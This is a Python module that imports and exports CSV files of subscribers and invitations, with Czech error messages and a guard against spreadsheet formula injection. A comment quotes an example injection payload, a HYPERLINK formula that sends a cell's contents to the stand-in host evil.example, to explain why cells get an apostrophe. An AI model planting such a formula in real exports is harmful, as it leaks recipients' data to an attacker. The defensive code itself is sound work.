"""Reading and writing a CSV of people: the file, its header and the problems of each line.

Both imports read their files here: subscribers into a list (the
`zpravodaj subscribers import` command and the admin upload) and invitations
into a working group (the admin upload). A file is refused, and a line
skipped, for the same reasons in the same words wherever it comes in: Czech
text, as a worker stores it, translated for the reader by `stored_messages.shown`.

Every CSV the service writes goes through `writer`, which neutralises cells a
spreadsheet would run as a formula (`neutralise_cell`); reading strips that
mark again (`restore_cell`), so an export imports back unchanged.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Iterator, Mapping
from typing import IO, Any

from werkzeug.datastructures import FileStorage

from .addresses import Address, InvalidAddress, parse_address_for_app
from .models import INSTITUTION_TYPES
from .stored_messages import N_

# Czech, as stored in an import's report; `stored_messages.shown` translates them when shown.
EMPTY = N_("Soubor je prázdný.")
NOT_UTF8 = N_("Soubor není v kódování UTF-8. Uložte ho prosím jako „CSV UTF-8“ a zkuste to znovu.")
NOT_CSV = N_("Soubor není platné CSV.")
NOT_CSV_FROM_LINE = N_("Soubor není platné CSV (řádek %(line)s).")
NO_EMAIL_COLUMN = N_("V prvním řádku chybí sloupec „email“ (záhlaví s názvy sloupců).")
NO_EMAIL_COLUMN_SEMICOLONS = N_(
    "V prvním řádku chybí sloupec „email“ (záhlaví s názvy sloupců). "
    "Sloupce jsou oddělené středníkem; použijte čárku."
)
INVALID_ADDRESS = N_("neplatná adresa %(address)s")
REPEATED_ADDRESS = N_("opakuje adresu z řádku %(line)s")
UNKNOWN_INSTITUTION = N_("neznámý typ instituce %(institution)s")


# A spreadsheet runs a cell starting with one of these as a formula (a tab or a
# carriage return is dropped first, and what follows it runs): CSV injection,
# e.g. a sign-up named `=HYPERLINK("http://evil.example/?x="&A1,"klik")`.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# OWASP's remedy: a leading apostrophe makes the cell text. A cell that starts
# with an apostrophe gets one too, so that reading can always strip exactly one.
TEXT_MARK = "'"


def neutralise_cell(value: Any) -> Any:
    """`value` as written to a CSV: text a spreadsheet could run gets a leading apostrophe."""
    if isinstance(value, str) and value.startswith((*FORMULA_STARTS, TEXT_MARK)):
        return TEXT_MARK + value
    return value


def restore_cell(value: str) -> str:
    """A cell as `neutralise_cell` received it: the apostrophe it added is taken off.

    Only an apostrophe before a character that would have earned one is
    removed, so a name such as `'t Hooft` typed into a spreadsheet stays whole.
    """
    if value.startswith(TEXT_MARK) and value[1:2] and value[1] in (*FORMULA_STARTS, TEXT_MARK):
        return value[1:]
    return value


class _NeutralisingWriter(csv.DictWriter):
    """A DictWriter whose every cell (header included) goes through `neutralise_cell`."""

    def writerow(self, rowdict: Mapping[str, Any]) -> Any:
        return super().writerow({key: neutralise_cell(value) for key, value in rowdict.items()})

    def writerows(self, rowdicts: Iterable[Mapping[str, Any]]) -> None:
        for rowdict in rowdicts:
            self.writerow(rowdict)


def writer(stream: IO[str], columns: Iterable[str]) -> csv.DictWriter:
    """The one way the service writes a CSV: rows as dicts, no cell read as a formula."""
    return _NeutralisingWriter(stream, fieldnames=list(columns), lineterminator="\n")


class ImportRefused(ValueError):
    """The import as a whole cannot run (nothing of it is done); the message is Czech
    (`stored_messages.shown` gives it in the reader's language)."""


def decode(raw: bytes) -> str:
    """The text of a CSV file given as bytes: UTF-8, with or without a byte-order mark."""
    if not raw.strip():
        raise ImportRefused(EMPTY)
    try:
        # utf-8-sig: Excel's "CSV UTF-8" starts with a byte-order mark.
        return raw.decode("utf-8-sig")
    except UnicodeDecodeError:
        raise ImportRefused(NOT_UTF8) from None


def uploaded_text(upload: FileStorage | None, missing: str) -> str:
    """The text of an uploaded CSV with an `email` column; ImportRefused (`missing` if none).

    The header is checked here, so that the form shows it with its other errors.
    """
    if upload is None or not getattr(upload, "filename", ""):
        raise ImportRefused(missing)
    text = decode(upload.read())
    PeopleCsv(io.StringIO(text, newline=""))
    return text


def uploaded_bytes(upload: FileStorage | None, missing: str) -> tuple[str, bytes]:
    """(file name, bytes) of an uploaded CSV with an `email` column; ImportRefused if not.

    For an import run later by a worker: the bytes are stored as uploaded.
    """
    if upload is None or not getattr(upload, "filename", ""):
        raise ImportRefused(missing)
    raw = upload.read()
    PeopleCsv(io.StringIO(decode(raw), newline=""))
    return upload.filename or "", raw


def institution_key(value: str) -> str | None:
    """The INSTITUTION_TYPES key for a key or a Czech label (any capitals); '' for empty."""
    text = " ".join((value or "").split())
    if not text:
        return ""
    if text in INSTITUTION_TYPES:
        return text
    folded = text.casefold()
    for key, label in INSTITUTION_TYPES.items():
        if folded in (key.casefold(), label.casefold()):
            return key
    # "obecní úřad - sociální odbor" typed with a hyphen instead of the dash.
    for key, label in INSTITUTION_TYPES.items():
        if folded == label.casefold().replace("–", "-"):
            return key
    return None


class PeopleCsv:
    """A CSV with a header row naming an `email` column (any capitals); ImportRefused if not.

    Rows come with their line numbers; the checks below note a skipped line's
    problem in `problems` and answer None or False, so an import reads as a
    list of reasons to skip a line.
    """

    def __init__(self, stream: IO[str]) -> None:
        self._reader = csv.DictReader(stream)
        try:
            header = self._reader.fieldnames
        except UnicodeDecodeError:
            raise ImportRefused(NOT_UTF8) from None
        except csv.Error:
            raise ImportRefused(NOT_CSV) from None
        if not header or not any((name or "").strip() for name in header):
            raise ImportRefused(EMPTY)  # nothing, or only blank lines and spaces
        self.columns = {(name or "").strip().lower(): name for name in header}
        if "email" not in self.columns:
            semicolons = len(header) == 1 and ";" in header[0]
            raise ImportRefused(NO_EMAIL_COLUMN_SEMICOLONS if semicolons else NO_EMAIL_COLUMN)
        self.problems: list[tuple[int, str]] = []
        self._seen: dict[str, int] = {}

    def rows(self) -> Iterator[tuple[int, dict]]:
        """(line number, row) for each data row; ImportRefused when the rest cannot be read."""
        try:
            for row in self._reader:
                yield self._reader.line_num, row
        except (UnicodeDecodeError, csv.Error) as exc:
            raise ImportRefused(_unreadable(exc, self._reader.line_num + 1)) from None

    def cell(self, row: dict, column: str) -> str:
        """The row's value in `column`, stripped and without the apostrophe an export
        put before formula-like text; '' when the file has no such column."""
        value = row.get(self.columns[column]) if column in self.columns else None
        return restore_cell(value.strip()) if isinstance(value, str) else ""

    def skip(self, line: int, problem: str) -> None:
        self.problems.append((line, problem))

    def address(self, line: int, row: dict) -> Address | None:
        """The row's address, or None when it is not one."""
        email = self.cell(row, "email")
        try:
            return parse_address_for_app(email)
        except InvalidAddress:
            self.skip(line, INVALID_ADDRESS % {"address": repr(email)})
            return None

    def first_time(self, line: int, address: Address) -> bool:
        """Whether no earlier line of the file has this address."""
        if address.key in self._seen:
            self.skip(line, REPEATED_ADDRESS % {"line": self._seen[address.key]})
            return False
        self._seen[address.key] = line
        return True

    def institution(self, line: int, row: dict) -> str | None:
        """The row's institution type as a key ('' when not given), or None when unknown."""
        given = self.cell(row, "institution")
        key = institution_key(given)
        if key is None:
            self.skip(line, UNKNOWN_INSTITUTION % {"institution": repr(given)})
        return key


def _unreadable(exc: Exception, line: int) -> str:
    """Why the file cannot be read on from `line`."""
    if isinstance(exc, UnicodeDecodeError):
        return NOT_UTF8
    return NOT_CSV_FROM_LINE % {"line": line}
